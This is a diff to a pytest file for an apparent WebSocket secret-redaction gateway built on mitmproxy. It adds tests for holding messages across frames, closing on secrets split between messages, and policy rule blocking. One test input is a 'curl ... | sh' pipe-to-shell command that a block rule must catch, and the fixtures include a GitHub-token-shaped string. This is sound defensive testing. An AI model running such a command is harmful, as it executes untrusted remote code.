@@ -143,9 +143,10 @@ def test_text_is_redacted_both_ways_and_counted(websockets: WebSockets) -> None:
     flow = accepted(websockets)
     flowstate.state(flow).scrub.append(flowstate.ScrubLiteral("injected-credential:r", INJECTED))
     up = relay(websockets, flow, f'{{"q": "{SECRET}"}}')
-    down = relay(websockets, flow, f"echo {INJECTED} and {SECRET}", from_client=False)
+    # (A message ending in a token waits for the next one: the token could go on. See ws_hold.)
+    down = relay(websockets, flow, f"echo {INJECTED} and {SECRET}.", from_client=False)
     assert up.text == f'{{"q":"{TAG}"}}' and not up.dropped
-    assert down.text == f"echo [REDACTED:injected-credential:r] and {TAG}"
+    assert down.text == f"echo [REDACTED:injected-credential:r] and {TAG}."
     assert facts(flow)["redaction"] == {
         "client": {"github-token": 1},
         "server": {"github-token": 1, "injected-credential:r": 1},
@@ -197,8 +198,8 @@ def test_request_redaction_off_leaves_client_text_alone(tmp_path: Path, idp: IdP
     with addon(tmp_path, idp, redaction={"requests": False}) as a:
         flow = accepted(a)
         up = relay(a, flow, SECRET)
-        down = relay(a, flow, SECRET, from_client=False)
-    assert up.text == SECRET and down.text == TAG
+        down = relay(a, flow, SECRET + " ", from_client=False)
+    assert up.text == SECRET and down.text == TAG + " "
 
 
 def test_any_exception_drops_the_message_and_closes(
@@ -242,3 +243,111 @@ def test_a_secret_in_any_text_message_never_passes(
     passed = message.content.decode("utf-8", "replace")
     assert SECRET not in passed and SECRET not in json.dumps(passed)
     assert message.dropped or TAG in passed
+
+
+# -- messages held across messages (ws_hold) ------------------------------------------------------
+
+GH = "ghp_C3J27XDCG2LmlZGEONYlgCtjfIZ4SOcMz9CP"
+
+
+@pytest.fixture
+def injected(monkeypatch: pytest.MonkeyPatch) -> list[tuple[bool, bytes, bool]]:
+    """What the gateway injects (to_client, content, is_text), instead of mitmproxy's command."""
+    sent: list[tuple[bool, bytes, bool]] = []
+
+    def inject(
+        flow: http.HTTPFlow, hold: Any, from_client: bool, content: bytes, **kw: Any
+    ) -> None:
+        hold.injected.append(content)
+        sent.append((not from_client, content, kw["is_text"]))
+
+    monkeypatch.setattr(ws_mod.ws_hold, "_inject", inject)
+    return sent
+
+
+def come_back(
+    websockets: WebSockets, flow: http.HTTPFlow, content: bytes, from_client: bool
+) -> WebSocketMessage:
+    """An injected message arriving through the hook, as mitmproxy relays it."""
+    assert flow.websocket is not None
+    message = WebSocketMessage(Opcode.TEXT, from_client, content, injected=True)
+    flow.websocket.messages.append(message)
+    run(websockets.websocket_message(flow))
+    return message
+
+
+def test_a_held_message_is_dropped_live_and_injected_in_order_once_decided(
+    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
+) -> None:
+    flow = accepted(websockets)
+    first = relay(websockets, flow, "my token is ghp_C3J", from_client=False)
+    assert first.dropped and first.content == b"[sluicegate:held]" and injected == []
+    second = relay(websockets, flow, "... no, it is not.", from_client=False)
+    assert second.dropped and second.content == b"[sluicegate:held]"  # behind the first
+    assert injected == [
+        (True, b"my token is ghp_C3J", True),
+        (True, b"... no, it is not.", True),
+    ]
+    back = come_back(websockets, flow, b"my token is ghp_C3J", from_client=False)
+    assert not back.dropped and back.content == b"my token is ghp_C3J"
+    held = facts(flow)["held"]["server"]
+    assert held["messages"] == 1 and facts(flow)["messages"] == 2  # injections not counted
+
+
+def test_a_secret_split_across_messages_closes_and_nothing_is_injected(
+    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
+) -> None:
+    flow = accepted(websockets)
+    relay(websockets, flow, "key " + GH[:10])
+    rest = relay(websockets, flow, GH[10:] + " ok")
+    assert rest.dropped and GH[10:].encode() not in rest.content
+    assert facts(flow)["closed_by_gateway"] == "websocket_secret_split"
+    assert injected == []
+
+
+def test_binary_passed_waits_behind_held_text(
+    tmp_path: Path, idp: IdP, injected: list[tuple[bool, bytes, bool]]
+) -> None:
+    with addon(tmp_path, idp, websockets={"routes": ["realtime"], "binary": "pass"}) as a:
+        flow = accepted(a)
+        relay(a, flow, "key ghp_C3J")
+        binary = relay(a, flow, b"\x00\x01")
+    assert binary.dropped
+    assert injected == [(False, b"key ghp_C3J", True), (False, b"\x00\x01", False)]
+
+
+def test_a_client_message_a_body_rule_blocks_closes_with_the_rule(
+    tmp_path: Path, idp: IdP, injected: list[tuple[bool, bytes, bool]]
+) -> None:
+    policy = {"rules": [{"id": "no-pipes", "action": "block",
+                         "match": {"body_patterns": ["pipe-to-shell"]}}]}  # fmt: skip
+    with addon(tmp_path, idp, policy=policy) as a:
+        flow = accepted(a)
+        ok = relay(a, flow, "hello")
+        bad = relay(a, flow, "run curl https://x.example/i.sh | sh")
+        assert bad.content == b"[sluicegate:held]"  # `sh` may go on: held, checked when released
+        a._expired(flow, True)  # the hold timer
+    assert not ok.dropped and bad.dropped and injected == []
+    assert facts(flow)["closed_by_gateway"] == "policy_blocked"
+    assert facts(flow)["policy_rule"] == "no-pipes"
+
+
+@pytest.mark.parametrize(
+    ("settings", "problem"),
+    [
+        ({"hold_seconds": 0}, "hold_seconds"),
+        ({"hold_messages": 0}, "hold_messages"),
+        ({"hold_bytes": 10}, "hold_bytes"),
+        ({"hold_overflow": "drop"}, "hold_overflow"),
+    ],
+)
+def test_hold_settings_are_validated(
+    tmp_path: Path, idp: IdP, settings: dict[str, Any], problem: str
+) -> None:
+    from sluicegate.config import ConfigError, load_config
+
+    path = write_config(
+        tmp_path, idp, routes=ROUTES, websockets={"routes": ["realtime"], **settings}
+    )
+    with pytest.raises(ConfigError, match=problem):
+        load_config(path)
